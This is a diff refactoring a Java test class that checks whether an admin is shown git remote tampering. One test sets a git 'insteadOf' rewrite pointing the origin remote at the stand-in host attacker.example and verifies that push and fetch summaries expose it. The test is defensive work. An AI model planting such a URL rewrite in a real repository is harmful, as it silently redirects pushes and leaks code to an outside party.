@@ -9,6 +9,7 @@ import dev.lomicontrol.core.RetryEpochId;
 import dev.lomicontrol.decisions.PendingDecision;
 import dev.lomicontrol.pairing.Session;
 import dev.lomicontrol.projects.Project;
+import dev.lomicontrol.testing.GitRemote;
 import dev.lomicontrol.testing.SilentRemote;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -16,7 +17,6 @@ import java.time.Duration;
 import java.util.concurrent.atomic.AtomicInteger;
 import org.eclipse.jgit.api.Git;
 import org.eclipse.jgit.lib.StoredConfig;
-import org.eclipse.jgit.transport.URIish;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -40,38 +40,15 @@ class AttackGitRemoteTests {
     Project project;
     RetryEpochId epoch;
     Git mine;
-    Path bare;
+    GitRemote remote;
     final AtomicInteger keys = new AtomicInteger();
 
     @BeforeEach
     void open() throws Exception {
         broker = new BrokerCallsFixture(temp);
-        bare = temp.resolve("remote.git");
-        Git.init()
-                .setBare(true)
-                .setDirectory(bare.toFile())
-                .setInitialBranch("main")
-                .call()
-                .close();
-        Path seed = temp.resolve("seed");
-        try (Git git =
-                Git.init().setDirectory(seed.toFile()).setInitialBranch("main").call()) {
-            identify(git);
-            Files.writeString(seed.resolve("shared.txt"), "one\n");
-            git.add().addFilepattern("shared.txt").call();
-            git.commit().setMessage("seed").call();
-            git.remoteAdd()
-                    .setName("origin")
-                    .setUri(new URIish(bare.toUri().toString()))
-                    .call();
-            git.push().setRemote("origin").call();
-        }
+        remote = GitRemote.seeded(temp, "one\n");
         project = broker.project("repo");
-        mine = Git.cloneRepository()
-                .setURI(bare.toUri().toString())
-                .setDirectory(project.root().toFile())
-                .call();
-        identify(mine);
+        mine = remote.cloneInto(project.root());
         Files.writeString(project.root().resolve("mine.txt"), "mine\n");
         mine.add().addFilepattern("mine.txt").call();
         mine.commit().setMessage("mine").call();
@@ -82,7 +59,7 @@ class AttackGitRemoteTests {
 
     @AfterEach
     void close() {
-        mine.close();
+        remote.close();
         broker.close();
     }
 
@@ -103,11 +80,11 @@ class AttackGitRemoteTests {
 
     @Test
     void anInsteadOfRewriteIsShownToTheAdminForAPushAndAFetch() throws Exception {
-        config("url", "https://attacker.example/", "insteadOf", bare.toUri().toString());
+        config("url", "https://attacker.example/", "insteadOf", remote.uri());
 
         assertThat(parked(push()).summary())
                 .contains("to origin (https://attacker.example/)")
-                .doesNotContain(bare.toString());
+                .doesNotContain(remote.bare().toString());
         ObjectNode fetch = mutation("fetch");
         fetch.put("remote", "origin").put("reference", "refs/heads/main");
         assertThat(parked(fetch).summary()).contains("from origin (https://attacker.example/)");
@@ -168,13 +145,6 @@ class AttackGitRemoteTests {
     private void config(String section, String subsection, String name, String value) throws Exception {
         StoredConfig config = mine.getRepository().getConfig();
         config.setString(section, subsection, name, value);
-        config.save();
-    }
-
-    private static void identify(Git git) throws Exception {
-        StoredConfig config = git.getRepository().getConfig();
-        config.setString("user", null, "name", "Test Author");
-        config.setString("user", null, "email", "author@example.com");
         config.save();
     }
 }
